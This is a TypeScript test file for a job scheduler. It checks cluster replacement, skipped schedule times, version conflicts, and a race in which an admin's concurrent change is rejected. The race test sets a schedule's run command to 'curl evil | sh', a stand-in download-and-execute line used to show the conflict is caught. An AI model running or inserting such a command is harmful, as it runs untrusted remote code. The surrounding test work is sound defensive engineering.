/** Schedules whose clusters come and go with their jobs, through the real verbs, on SQLite in memory, with a clock that the test sets. */
import { jobs as jobRoutes } from "@muster/api/routes/jobs.ts";
import { schedules as routes } from "@muster/api/routes/schedules.ts";
import * as Clusters from "@muster/core/cluster/read.ts";
import { cancel } from "@muster/core/job/cancel.ts";
import * as Keys from "@muster/core/keys.ts";
import type { Table } from "@muster/core/ports/table.ts";
import { get } from "@muster/core/schedule/read.ts";
import { run } from "@muster/core/schedule/run.ts";
import type * as Schedule from "@muster/core/schedule/schedule.ts";
import { set } from "@muster/core/schedule/set.ts";
import { create as createToken } from "@muster/core/token/create.ts";
import { expect, test } from "vitest";
import { MINUTE, passing } from "../support/requests.ts";
import { ADA, type TestWorld, testWorld } from "../support/world.ts";
import { request } from "./schedule-support.ts";

const HOUR = 60 * MINUTE;
const ADMIN = { ...ADA, id: "usr_root", role: "admin" } as const;

/** Ada's schedule `hourly`; its machines boot as long as the test takes. */
async function scheduled(more: Partial<Schedule.Change> = {}) {
  const world = testWorld();
  world.provider.capabilities = { ...world.provider.capabilities, boot: 1000 * HOUR };
  await createToken(world, ADMIN, { actor: "usr_ada", role: "member" });
  await set(world, ADA, "hourly", request(more));
  return world;
}

const lastOf = async (world: TestWorld) => (await get(world, ADA, "hourly")).launched;
const stateOf = async (world: TestWorld, id = "") => (await Clusters.get(world, ADA, id)).state;

test.each([
  ["takes it along", { down: true }],
  ["has one of its own", { managed: true }],
])("a job that %s is replaced, though its cluster's name is free only later", async (_, how) => {
  const world = await scheduled({ overlap: "replace", launch: { ...request().launch, ...how } });
  await passing(world, 60);
  const first = await lastOf(world);
  world.provider.obeys = false;
  await passing(world, 65);
  expect(await stateOf(world, first?.clusterId)).toBe("draining");
  expect((await get(world, ADA, "hourly")).last).toMatchObject({
    outcome: "queued",
    message: "cluster 'demo' of before has not ended",
  });
  world.provider.obeys = true;
  await passing(world, 3);
  const second = await lastOf(world);
  expect(second?.clusterId).not.toBe(first?.clusterId);
  expect(second?.at).toBe((first?.at ?? 0) + HOUR);
  await passing(world, 20);
  expect(await lastOf(world)).toEqual(second);
});

test("a time that comes while the cluster of the last one goes is kept, also where times are skipped", async () => {
  const world = await scheduled({ launch: { ...request().launch, down: true } });
  await passing(world, 60);
  const first = await lastOf(world);
  await passing(world, 58);
  world.provider.obeys = false;
  await cancel(world, ADA, first?.jobId ?? "");
  await passing(world, 4);
  expect(await lastOf(world)).toEqual(first);
  world.provider.obeys = true;
  await passing(world, 3);
  expect((await lastOf(world))?.at).toBe((first?.at ?? 0) + HOUR);
});

test("what another version has set, and this one cannot read, is told, and the next time is another try", async () => {
  const world = await scheduled();
  const key = Keys.scheduled("acme", "hourly");
  const item = await world.table.get(key);
  await world.table.write([
    { put: { ...key, type: "scheduled", data: { launch: { task: 7 } } }, expect: item?.version ?? "absent" },
  ]);
  await passing(world, 60);
  expect(await get(world, ADA, "hourly")).toMatchObject({
    last: {
      outcome: "failed",
      message: "what schedule 'hourly' launches was set by another version, which allowed more",
    },
    nextAt: world.clock.now() + HOUR,
  });
});

test("run by hand while an admin sets it: nobody launches in the name of one what another has set", async () => {
  const world = await scheduled();
  world.clock.pass(MINUTE);
  let isSet = false;
  const table = Object.create(world.table) as Table;
  table.query = world.table.query.bind(world.table);
  table.write = world.table.write.bind(world.table);
  table.get = async key => {
    if (key.sk === "LAUNCH" && !isSet) {
      isSet = true;
      await set(world, ADMIN, "hourly", request({}, { run: "curl evil | sh" }));
    }
    return world.table.get(key);
  };
  await expect(run({ ...world, table }, ADA, "hourly")).rejects.toMatchObject({ code: "conflict" });
  expect(await lastOf(world)).toBeUndefined();
});

test("running it may be refused with whatever a launch may be refused with", () => {
  expect(routes["schedules.run"].errors).toEqual(expect.arrayContaining([...jobRoutes["launches.create"].errors]));
});
